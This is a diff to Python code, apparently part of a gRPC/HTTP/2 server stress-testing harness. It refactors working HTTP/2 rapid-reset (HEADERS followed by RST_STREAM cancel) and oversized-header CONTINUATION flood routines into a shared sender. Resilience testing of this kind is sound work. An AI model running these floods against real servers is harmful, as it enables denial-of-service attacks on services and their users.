@@ -222,9 +222,38 @@ async def hold_idle(address: str, n: int, seconds: float, tally: IdleTally | Non
 async def rapid_reset(address: str, path: str, connections: int, seconds: float, batch: int = 50) -> int:
     """On each of `connections` connections, HEADERS then RST_STREAM(CANCEL) on stream after stream, in
     batches of `batch`, for `seconds`; returns how many calls were opened and reset."""
-    host, port = address.rsplit(":", 1)
     block = header_block([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address),
                           ("content-type", "application/grpc"), ("te", "trailers")])
+
+    def burst(stream: int) -> tuple[bytes, int]:
+        out = bytearray()
+        for s in range(stream, stream + 2 * batch, 2):
+            out += frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))  # CANCEL
+        return bytes(out), batch
+
+    return await _send_calls(address, connections, seconds, burst)
+
+
+async def oversized_headers(address: str, path: str, connections: int, seconds: float, headers: int = 10_000) -> int:
+    """On each of `connections` connections, call after call whose header block holds `headers` small
+    headers (HEADERS and CONTINUATION frames of 16 KiB), back to back for `seconds`; returns the calls sent."""
+    block = header_block([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address),
+                          ("content-type", "application/grpc")] + [(f"x-h{i}", "v") for i in range(headers)])
+    pieces = [block[i:i + FRAME] for i in range(0, len(block), FRAME)]
+
+    def call(stream: int) -> tuple[bytes, int]:
+        out = bytearray(frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream, pieces[0]))
+        for i, piece in enumerate(pieces[1:], 2):
+            out += frame(CONTINUATION, END_HEADERS if i == len(pieces) else 0, stream, piece)
+        return bytes(out), 1
+
+    return await _send_calls(address, connections, seconds, call)
+
+
+async def _send_calls(address: str, connections: int, seconds: float, calls) -> int:
+    """On each of `connections` connections (its replies read and dropped), `calls(first_stream)` -> (bytes,
+    n calls) written back to back for `seconds`; returns the calls sent over all connections."""
+    host, port = address.rsplit(":", 1)
     end = asyncio.get_running_loop().time() + seconds
     sent = 0
 
@@ -236,48 +265,10 @@ async def rapid_reset(address: str, path: str, connections: int, seconds: float,
         stream = 1
         try:
             while asyncio.get_running_loop().time() < end and stream < 2**30:
-                burst = bytearray()
-                for _ in range(batch):
-                    burst += frame(HEADERS, END_HEADERS, stream, block)
-                    burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
-                    stream += 2
-                writer.write(bytes(burst))
+                data, n = calls(stream)
+                writer.write(data)
                 await writer.drain()
-                sent += batch
-        except (ConnectionError, OSError):
-            pass
-        finally:
-            replies.cancel()
-            writer.close()
-
-    await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)
-    return sent
-
-
-async def oversized_headers(address: str, path: str, connections: int, seconds: float, headers: int = 10_000) -> int:
-    """On each of `connections` connections, call after call whose header block holds `headers` small
-    headers (HEADERS and CONTINUATION frames of 16 KiB), back to back for `seconds`; returns the calls sent."""
-    host, port = address.rsplit(":", 1)
-    block = header_block([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address),
-                          ("content-type", "application/grpc")] + [(f"x-h{i}", "v") for i in range(headers)])
-    pieces = [block[i:i + FRAME] for i in range(0, len(block), FRAME)]
-    end = asyncio.get_running_loop().time() + seconds
-    sent = 0
-
-    async def one() -> None:
-        nonlocal sent
-        reader, writer = await asyncio.open_connection(host, int(port))
-        replies = asyncio.ensure_future(_drain(reader))
-        writer.write(PREFACE + frame(SETTINGS, 0, 0))
-        stream = 1
-        try:
-            while asyncio.get_running_loop().time() < end:
-                call = bytearray(frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream, pieces[0]))
-                for i, piece in enumerate(pieces[1:], 2):
-                    call += frame(CONTINUATION, END_HEADERS if i == len(pieces) else 0, stream, piece)
-                writer.write(bytes(call))
-                await writer.drain()
-                sent, stream = sent + 1, stream + 2
+                sent, stream = sent + n, stream + 2 * n
         except (ConnectionError, OSError):
             pass
         finally:
